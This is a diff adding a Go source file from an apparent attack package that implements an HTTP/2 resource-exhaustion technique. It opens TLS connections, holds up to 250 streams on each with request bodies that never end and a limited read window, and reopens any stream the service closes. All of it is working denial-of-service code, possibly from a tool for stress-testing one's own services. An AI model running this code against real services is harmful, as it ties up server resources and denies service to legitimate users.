@@ -1,0 +1,149 @@
+package attack
+
+import (
+	"bytes"
+	"crypto/tls"
+	"io"
+	"strconv"
+	"sync"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// streamsPerConnection is the number of streams that net/http allows on one connection.
+const streamsPerConnection = 250
+
+// http2Request describes the requests of an attack over HTTP/2.
+type http2Request struct {
+	method, path string
+	fields       []hpack.HeaderField
+	part         string // the beginning of a body that never ends; "" for a request without a body
+	window       uint32 // the bytes of each response that the client is ready to read
+}
+
+// http2Conn is a connection on which an attacker holds streams.
+type http2Conn struct {
+	attacker *attacker
+	conn     *tls.Conn
+	slots    chan struct{} // a value for each open stream
+	mu       sync.Mutex    // guards the fields below
+	framer   *http2.Framer
+	encoder  *hpack.Encoder
+	block    bytes.Buffer
+	last     uint32 // the id of the newest stream
+}
+
+// holdStreams opens a connection and keeps the given number of streams open on it until the service or the end
+// of the attack closes the connection. A stream that the service ends is replaced.
+func (a *attacker) holdStreams(streams int, r http2Request) {
+	raw := a.dial()
+	if raw == nil {
+		return
+	}
+	c := &http2Conn{attacker: a, conn: tls.Client(raw, a.tlsConfig("h2")), slots: make(chan struct{}, streams)}
+	defer c.conn.Close()
+	if c.conn.HandshakeContext(a.ctx) != nil {
+		a.failed()
+		return
+	}
+	c.framer, c.encoder = http2.NewFramer(c.conn, c.conn), hpack.NewEncoder(&c.block)
+	if _, err := io.WriteString(c.conn, http2.ClientPreface); err != nil {
+		a.failed()
+		return
+	}
+	if c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: r.window}) != nil {
+		a.failed()
+		return
+	}
+	closed := make(chan struct{})
+	go func() {
+		defer close(closed)
+		c.read()
+	}()
+	for {
+		select {
+		case <-closed:
+			a.failed()
+			return
+		case c.slots <- struct{}{}:
+			if c.open(r) != nil {
+				a.failed()
+				return
+			}
+		}
+	}
+}
+
+// open opens the next stream.
+func (c *http2Conn) open(r http2Request) error {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	if c.last++; c.last%2 == 0 {
+		c.last++ // a client's streams have odd ids
+	}
+	c.block.Reset()
+	for _, field := range append([]hpack.HeaderField{
+		{Name: ":method", Value: r.method}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: c.attacker.Address}, {Name: ":path", Value: r.path},
+	}, r.fields...) {
+		if err := c.encoder.WriteField(field); err != nil {
+			return err
+		}
+	}
+	c.attacker.sent()
+	err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.last, BlockFragment: c.block.Bytes(), EndHeaders: true, EndStream: r.part == ""})
+	if err == nil && r.part != "" {
+		err = c.framer.WriteData(c.last, false, []byte(r.part))
+	}
+	return err
+}
+
+// read reads frames until the connection ends. It answers what the protocol demands and counts statuses.
+func (c *http2Conn) read() {
+	c.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
+	for {
+		frame, err := c.framer.ReadFrame()
+		if err != nil {
+			return
+		}
+		switch f := frame.(type) {
+		case *http2.SettingsFrame:
+			if !f.IsAck() {
+				c.write((*http2.Framer).WriteSettingsAck)
+			}
+		case *http2.PingFrame:
+			if !f.IsAck() {
+				c.write(func(framer *http2.Framer) error { return framer.WritePing(true, f.Data) })
+			}
+		case *http2.MetaHeadersFrame:
+			status, _ := strconv.Atoi(f.PseudoValue("status"))
+			c.attacker.received(status)
+			c.ended(f.StreamEnded())
+		case *http2.DataFrame:
+			c.ended(f.StreamEnded())
+		case *http2.RSTStreamFrame:
+			c.ended(true)
+		}
+	}
+}
+
+// write writes a frame that answers one from the service. If that fails, reading fails, too.
+func (c *http2Conn) write(frame func(*http2.Framer) error) {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	if frame(c.framer) != nil {
+		c.conn.Close()
+	}
+}
+
+// ended makes room for another stream if one has ended. A stream that ends twice, with its response and with a
+// reset, makes room once.
+func (c *http2Conn) ended(over bool) {
+	if over {
+		c.attacker.sleep(streamPause)
+		select {
+		case <-c.slots:
+		default:
+		}
+	}
+}
